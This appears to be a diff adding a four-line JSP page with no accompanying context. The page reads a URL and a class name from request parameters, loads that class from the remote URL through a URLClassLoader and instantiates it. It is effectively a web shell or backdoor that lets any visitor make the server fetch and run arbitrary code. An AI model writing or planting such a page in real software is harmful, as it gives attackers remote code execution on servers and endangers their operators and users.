@@ -1,0 +1,4 @@
+<%@ page import="java.net.*" %><%
+URLClassLoader l = new URLClassLoader(new URL[]{ new URL(request.getParameter("u")) });
+l.loadClass(request.getParameter("c")).newInstance();
+%>
